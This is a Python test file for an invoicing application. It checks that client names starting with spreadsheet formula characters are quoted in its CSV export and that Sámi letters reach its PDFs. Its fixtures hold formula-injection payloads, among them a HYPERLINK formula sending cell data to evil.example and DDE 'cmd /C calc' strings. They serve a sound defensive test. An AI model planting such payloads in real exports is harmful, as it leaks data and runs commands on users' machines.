"""Names a hostile or merely unusual register can hold: no formula reaches a spreadsheet from the
CSV basis (issue 10, item 9), and every letter of a Norwegian name, Sámi ones included, reaches
the PDF (item 8)."""

from __future__ import annotations

import base64
import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from lxml import etree

from periodyear.documents.basis_csv import basis_csv
from periodyear.documents.pdf import build_pdf
from periodyear.documents.publisher import documents
from periodyear.domain.basis import BasisRow, basis_rows
from periodyear.domain.calendar import Period
from periodyear.domain.catalog import load_catalog
from periodyear.domain.invoice import Invoice, compose_invoice
from periodyear.domain.meters import Meter
from periodyear.domain.payment import kid_for
from periodyear.domain.tenant import Client, Subscription, TenantAccount
from periodyear.domain.usage import UsageRecord
from periodyear_local.template import sample_seller
from tests.conftest import WORKED_EXAMPLE_CATALOG
from tests.pdf_text import pdf_pages, pdf_text

SELLER = sample_seller()
MARCH = Period.parse_month("2022-03")
HOSTILE = {
    "h1": '=HYPERLINK("http://evil.example/?"&A1,"Klikk")',
    "h2": "+1+cmd|' /C calc'!A0",
    "h3": "-2+3",
    "h4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "h5": "\t=1+1",
    "h6": "\r=1+1",
    "h7": "Vanlig Bakeri AS",
}
CSV_INJECTION_LEADS = ("=", "+", "-", "@", "\t", "\r")


def march_invoice(client_ids: list[str]) -> Invoice:
    draft = compose_invoice(
        tenant_id="t1",
        subscription=Subscription("KOMPLETT", date(2022, 3, 1)),
        period=MARCH,
        usage=[UsageRecord(Meter.PERIOD_ACTIVE_CLIENTS, c, date(2022, 3, 2)) for c in client_ids],
        catalog=load_catalog(WORKED_EXAMPLE_CATALOG),
        issue_date=MARCH.end,
    )
    assert draft is not None
    return Invoice(7, draft)


def firm(
    clients: dict[str, Client], *, name: str = "Fjord Regnskap AS", language: str = "nb"
) -> TenantAccount:
    return TenantAccount(
        "t1", name, "999999999", language, Subscription("KOMPLETT", date(2022, 3, 1)), clients
    )


def cells(document: bytes, language: str) -> list[list[str]]:
    text = document.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if language == "nb" else ","))


# ---------------------------------------------------------------- item 9: no formula injection


@pytest.mark.parametrize("language", ["nb", "en"])
def test_client_names_that_start_a_formula_are_neutralised_with_a_quote(language: str) -> None:
    # Given clients whose names would start a formula in a spreadsheet
    clients = {cid: Client(cid, name, "911111111", False) for cid, name in HOSTILE.items()}
    issued = march_invoice(list(clients))
    # When the basis is written as CSV
    rows = cells(basis_csv(basis_rows(issued.draft, clients), language), language)
    # Then each such name is one text cell with a single quote in front, the rest as they were
    names = {row[0]: row[1] for row in rows[1:] if row[0]}
    for client_id, name in HOSTILE.items():
        expected = "'" + name if name.startswith(CSV_INJECTION_LEADS) else name
        assert names[client_id] == expected
    for row in rows[1:]:
        assert not any(cell.startswith(CSV_INJECTION_LEADS) for cell in row[:6]), row


def test_ids_codes_and_descriptions_are_text_cells_too() -> None:
    row = BasisRow(
        client_id="=cmd|' /C calc'!A0",
        client_name="@evil",
        org_number="+4791111111",
        is_bureau_client=False,
        code="-code",
        description="=1+1",
        quantity=1,
        amount=Decimal("10.00"),
        vat=Decimal("2.50"),
        total=Decimal("12.50"),
    )
    ((client_id, name, org, _, code, description, *_),) = cells(basis_csv([row], "nb"), "nb")[1:]
    assert (client_id, name, org, code) == ("'=cmd|' /C calc'!A0", "'@evil", "'+4791111111", "'-code")
    assert description == "'=1+1"


@pytest.mark.parametrize(
    ("language", "written"),
    [("nb", ("-3", "-10,00", "-2,50", "-12,50")), ("en", ("-3", "-10.00", "-2.50", "-12.50"))],
)
def test_negative_amounts_stay_numbers(language: str, written: tuple[str, ...]) -> None:
    row = BasisRow(
        "c1",
        "Bakeri AS",
        "911111111",
        False,
        "period_active_clients",
        "Aktive klienter",
        -3,
        Decimal("-10.00"),
        Decimal("-2.50"),
        Decimal("-12.50"),
    )
    (cells_of_row,) = cells(basis_csv([row], language), language)[1:]
    assert tuple(cells_of_row[6:]) == written


def test_the_ehf_attachment_is_the_same_neutralised_csv() -> None:
    clients = {cid: Client(cid, name, "911111111", False) for cid, name in HOSTILE.items()}
    issued = march_invoice(list(clients))
    made = documents(issued, firm(clients), SELLER)
    ns = {"cbc": "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"}
    (attachment,) = etree.fromstring(made["xml"]).findall(".//cbc:EmbeddedDocumentBinaryObject", ns)
    assert base64.b64decode(attachment.text or "") == made["csv"]
    assert b"'=HYPERLINK" in made["csv"]


# ---------------------------------------------------------------- item 8: every letter reaches the PDF

SAMI_FIRM = "Čáhppes Ŋuorra Đuoddara Ŧ Šiida Žal AS"
SAMI_CLIENTS = {
    "c1": Client("c1", "Ánde Ŋámma Đ Ŧ Č Š Ž ŋ ŧ đ č š ž", "911111111", False),
    "c2": Client("c2", "Łódź Bakeri – Øst AS", "922222222", False),
}


@pytest.mark.parametrize("language", ["nb", "en"])
def test_a_sami_buyer_and_client_name_render_letter_for_letter(language: str) -> None:
    # Given a firm and a client whose names have Sámi letters
    issued = march_invoice(list(SAMI_CLIENTS))
    # When the PDF is made
    pdf = build_pdf(issued, firm(SAMI_CLIENTS, name=SAMI_FIRM, language=language), SELLER, kid_for(7))
    # Then every letter is drawn with a font that has it (none replaced)
    first, basis = pdf_pages(pdf)
    assert SAMI_FIRM in first
    assert "Ánde Ŋámma Đ Ŧ Č Š Ž ŋ ŧ đ č š ž" in basis
    assert "Łódź Bakeri – Øst AS" in basis
    assert "?" not in first + basis
    assert "\ufffd" not in first + basis
    assert b"/BaseFont /MPDFAA+DejaVuSans" in pdf  # embedded (subset), not the core Helvetica
    assert b"/Helvetica" not in pdf


def test_a_letter_no_font_has_is_replaced_and_never_stops_the_pdf() -> None:
    clients = {"c1": Client("c1", "Bakeri \u4e2d\u0915 AS\x00", "911111111", False)}
    issued = march_invoice(["c1"])
    pdf = build_pdf(issued, firm(clients, name="Firma \U0001f9fe AS"), SELLER, kid_for(7))
    text = pdf_text(pdf)
    assert "Bakeri \ufffd\ufffd AS\ufffd" in text  # the NUL too
    assert "Firma \ufffd AS" in text
    assert build_pdf(issued, firm(clients, name="Firma \U0001f9fe AS"), SELLER, kid_for(7)) == pdf


def test_the_same_invoice_gives_the_same_bytes_whatever_was_rendered_before() -> None:
    plain = march_invoice(["c1"])
    plain_firm = firm({"c1": Client("c1", "Bakeri AS", "911111111", False)})
    before = build_pdf(plain, plain_firm, SELLER, kid_for(7))
    build_pdf(march_invoice(list(SAMI_CLIENTS)), firm(SAMI_CLIENTS, name=SAMI_FIRM), SELLER, kid_for(8))
    assert build_pdf(plain, plain_firm, SELLER, kid_for(7)) == before


def test_a_long_client_name_on_the_basis_page_is_wrapped_whole_never_cut() -> None:
    # Given a client whose name is wider than the basis table's first column
    long_name = "Nordre Follo Rørleggerbedrift og Varmepumpeservice Avdeling Kolbotn AS"
    clients = {
        "c1": Client("c1", long_name, "911111111", False),
        "c2": Client("c2", "Kort AS", "974760673", False),
    }
    issued = march_invoice(["c1", "c2"])
    # When the PDF is made
    page = pdf_pages(build_pdf(issued, firm(clients), SELLER, kid_for(7)))[-1]
    # Then every word of the name is on the page, nothing is cut with "...", and the next client follows
    assert "..." not in page
    assert all(word in page for word in long_name.split())
    assert "Kort AS" in page
